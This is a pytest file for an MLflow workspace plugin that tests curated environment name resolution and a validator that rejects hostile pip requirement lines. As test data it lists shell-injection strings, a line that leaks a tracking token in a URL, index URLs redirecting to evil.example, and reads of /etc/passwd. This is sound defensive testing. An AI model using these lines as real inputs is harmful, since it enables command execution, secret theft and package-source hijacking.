"""Curated environment names and the rules for what an environment's requirements may contain
(no processes: resolution and checks run before anything is built)."""

from __future__ import annotations

import json
import os
import textwrap
from pathlib import Path

import pytest
from mlflow.exceptions import MlflowException

from mlflow_workspace_plugin.environments import curated
from mlflow_workspace_plugin.environments.errors import EnvironmentProblem
from mlflow_workspace_plugin.environments.requirement_rules import (
    MAX_REQUIREMENTS,
    check_requirements,
    relax_compatible_pins,
)
from mlflow_workspace_plugin.environments.resolve import resolve_inline, resolve_reference
from mlflow_workspace_plugin.jobs import load_job, submit_job


def _never() -> str:
    raise AssertionError("a curated name must not reach the asset store")


def resolve(reference: str, config: dict | None = None):
    return resolve_reference(reference, config=config, config_path=None, tracking_uri=_never,
                             files_dir=lambda: Path("/nonexistent"))


# ------------------------------------------------------------------ curated names
@pytest.mark.parametrize("reference", [
    "azureml:AzureML-sklearn-1.5@latest",
    "azureml://registries/azureml/environments/sklearn-1.5/labels/latest",
    "azureml://registries/azureml/environments/sklearn-1.5/versions/12",
    "azureml:AzureML-sklearn-1.5:3",
])
def test_every_spelling_of_a_curated_name_gives_the_published_package_set(reference):
    resolved = resolve(reference)
    assert resolved.description == "curated sklearn-1.5"
    assert "scikit-learn~=1.5.0" in resolved.requirements and "numpy~=1.22.0" in resolved.requirements
    assert not any(req.startswith("azureml-") for req in resolved.requirements)  # Azure's SDK is dropped
    assert resolved.python == "3.10"


def test_lightgbm_and_old_style_names():
    lightgbm = resolve("azureml:AzureML-lightgbm-3.3:1")
    assert "lightgbm>=4.6.0" in lightgbm.requirements
    assert curated.canonical_name("AzureML-lightgbm-3.3") == ("lightgbm-3.3", True)
    assert curated.canonical_name("azureml:AzureML-sklearn-1.0-ubuntu20.04-py38-cpu@latest") == ("sklearn-1.0", True)
    assert curated.canonical_name("azureml:team-env:2") == ("team-env", False)


def test_the_table_names_its_source():
    source = curated.table_source()
    assert source["repository"] == "https://github.com/Azure/azureml-assets"
    assert len(source["commit"]) == 40 and source["date"][:2] == "20"
    entry = curated.lookup("sklearn-1.5")
    assert entry.origin.startswith(f"Azure/azureml-assets@{source['commit'][:12]}")
    assert any(item.startswith("azureml-mlflow") for item in entry.dropped)


def test_unknown_curated_name_and_foreign_registry_are_clear_errors():
    with pytest.raises(EnvironmentProblem, match=r"'azureml:AzureML-sklearn-0.24-ubuntu18.04-py37-cpu@latest' is not "
                                                 r"known here \(known: acpt-pytorch"):
        resolve("azureml:AzureML-sklearn-0.24-ubuntu18.04-py37-cpu@latest")
    with pytest.raises(MlflowException, match="registry 'contoso'"):
        resolve("azureml://registries/contoso/environments/x/versions/1")


def test_workspace_config_overrides_and_extends_the_table():
    config = {"environments": {"AzureML-sklearn-1.5": {"packages": ["six==1.16.0"], "python": "3.11"},
                               "team-base": {"packages": ["tomli>=2"]}}}
    overridden = resolve("azureml://registries/azureml/environments/sklearn-1.5/labels/latest", config)
    assert overridden.requirements == ("six==1.16.0",) and overridden.python == "3.11"
    assert resolve("azureml:team-base@latest", config).requirements == ("tomli>=2",)
    assert "team-base" in curated.known_names(config)


@pytest.mark.parametrize("entry, message", [
    ([], "must be an object like"),
    ({"pip": ["x"]}, r"environments.x.pip is not recognised; allowed: description, packages, python"),
    ({"packages": "six"}, "must be a list of pip requirement strings"),
    ({"packages": ["six"], "python": 3.11}, "must be a string"),
    ({"packages": ["--index-url http://evil.example/simple"]}, "would fetch packages from another host"),
])
def test_bad_config_entries_are_named(entry, message):
    with pytest.raises(MlflowException, match=message):
        resolve("azureml:x@latest", {"environments": {"x": entry}})


# ------------------------------------------------------------------ hostile requirement lines
@pytest.mark.parametrize("line, message", [
    ("six; rm -rf /", "is not a valid requirement"),
    ("$(touch /tmp/pwned)", r"contains '\$'"),
    ("six @ https://example.invalid/${MLFLOW_TRACKING_TOKEN}.whl", r"contains '\$'"),
    ("`id`", "contains '\\$' or '`'"),
    ("--index-url http://evil.example/simple", "would fetch packages from another host"),
    ("--extra-index-url=http://evil.example/simple", "would fetch packages from another host"),
    ("-i http://evil.example/simple", "would fetch packages from another host"),
    ("--find-links http://evil.example/", "would fetch packages from another host"),
    ("--trusted-host evil.example", "would fetch packages from another host"),
    ("-e .", "is an editable install"),
    ("--pre", "is a pip option"),
    ("six @ http://evil.example/six.whl", "uses URL scheme 'http'"),
    ("six @ ftp://evil.example/six.whl", "uses URL scheme 'ftp'"),
    ("../outside.whl", "outside the job's code folder"),
    ("/etc/passwd", "outside the job's code folder"),
    ("six==1.16.0 'quoted", "is not a valid requirement"),
    ("x" * 3000, "longer than 2000 characters"),
])
def test_hostile_requirement_lines_are_refused_naming_the_line(tmp_path, line, message):
    with pytest.raises(EnvironmentProblem, match=message) as caught:
        check_requirements([line], source="conda_file env.yml", code_dir=tmp_path)
    assert "conda_file env.yml: requirement" in caught.value.message


def test_allowed_lines_and_local_paths_inside_the_code_folder(tmp_path):
    (tmp_path / "wheels").mkdir()
    wheel = tmp_path / "wheels" / "pkg-1.0-py3-none-any.whl"
    wheel.write_bytes(b"")
    outside = tmp_path.parent / f"{tmp_path.name}-outside.whl"
    outside.write_bytes(b"")
    (tmp_path / "link.whl").symlink_to(outside)
    lines = ["# a comment", "", "numpy>=1.26,<3  # trailing comment", 'tomli; python_version < "3.11"',
             "requests[socks]==2.32.3", "pkg @ git+https://github.com/example/pkg@v1", "./wheels/pkg-1.0-py3-none-any.whl"]
    assert check_requirements(lines, source="s", code_dir=tmp_path) == (
        "numpy>=1.26,<3", 'tomli; python_version < "3.11"', "requests[socks]==2.32.3",
        "pkg @ git+https://github.com/example/pkg@v1", str(wheel))
    with pytest.raises(EnvironmentProblem, match="outside the job's code folder"):
        check_requirements(["./link.whl"], source="s", code_dir=tmp_path)
    with pytest.raises(EnvironmentProblem, match="only allowed in a job's own conda file"):
        check_requirements(["./wheels/pkg-1.0-py3-none-any.whl"], source="s", code_dir=None)
    with pytest.raises(EnvironmentProblem, match=f"more than {MAX_REQUIREMENTS} requirements"):
        check_requirements([f"pkg{i}" for i in range(MAX_REQUIREMENTS + 1)], source="s", code_dir=tmp_path)


def test_widening_for_another_python_keeps_exact_pins_markers_and_zero_majors():
    relaxed, widened = relax_compatible_pins([
        "pandas~=1.5.3", "numpy~=1.22.0", "cryptography==48.0.1", "pyarrow>=23.0.1", "scipy~=1.10",
        'x[extra]~=2.1.4; python_version < "3.12"', "y~=0.4.1", "w @ https://example.com/w-1-py3-none-any.whl"])
    assert relaxed == ("pandas<2,>=1.5.3", "numpy<2,>=1.22.0", "cryptography==48.0.1", "pyarrow>=23.0.1",
                       "scipy~=1.10", 'x[extra]<3,>=2.1.4; python_version < "3.12"', "y~=0.4.1",
                       "w @ https://example.com/w-1-py3-none-any.whl")
    assert widened == ("pandas~=1.5.3", "numpy~=1.22.0", 'x[extra]~=2.1.4; python_version < "3.12"')
    assert relax_compatible_pins(["scikit-learn", "/abs/wheel.whl"]) == (("scikit-learn", "/abs/wheel.whl"), ())


def test_conda_files_that_read_outside_or_are_malformed(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("six\n")
    folder = tmp_path / "job"
    folder.mkdir()
    cases = {
        "dependencies: [{pip: ['-r ../secret.txt']}]": "outside the conda file's folder",
        "dependencies: [{pip: 'six'}]": "'pip' must be a list",
        "dependencies: six": "'dependencies' must be a list",
        "- just\n- a list": "must be a mapping",
        "dependencies: [unclosed": "Cannot read the conda environment file",
    }
    for text, message in cases.items():
        conda = folder / "env.yml"
        conda.write_text(text)
        with pytest.raises(EnvironmentProblem, match=message):
            resolve_inline(image=None, conda_file=conda, conda_inline=None, build_context=None, dockerfile=None,
                           code_dir=folder)
    big = folder / "big.yml"
    big.write_bytes(b"#" * 1_000_001)
    with pytest.raises(EnvironmentProblem, match="larger than"):
        resolve_inline(image=None, conda_file=big, conda_inline=None, build_context=None, dockerfile=None,
                       code_dir=folder)


def test_a_job_with_a_hostile_conda_file_fails_before_any_run_or_build(tmp_path):
    (tmp_path / "env.yml").write_text(textwrap.dedent("""\
        dependencies:
          - python=3.11
          - pip:
            - six
            - --extra-index-url http://evil.example/simple
    """))
    job_file = tmp_path / "job.yml"
    job_file.write_text("command: echo hi\nenvironment: {conda_file: env.yml}\nexperiment_name: hostile\n")
    with pytest.raises(MlflowException, match=r"job.yml: environment: conda_file env.yml: requirement "
                                              r"'--extra-index-url http://evil.example/simple' would fetch"):
        submit_job(load_job(job_file))
    home = Path(os.environ["MLFLOW_WORKSPACE_HOME"])
    assert not (home / "envs").exists() and not (home / "mlflow.db").exists()


def test_config_json_accepts_environments(tmp_path, monkeypatch):
    from mlflow_workspace_plugin.workspace import Workspace

    config = tmp_path / "config.json"
    config.write_text(json.dumps({"workspace_name": "w", "local_path": "ws",
                                  "environments": {"x": {"packages": ["six"]}}}))
    assert Workspace.from_config(config).config_path == config.resolve()
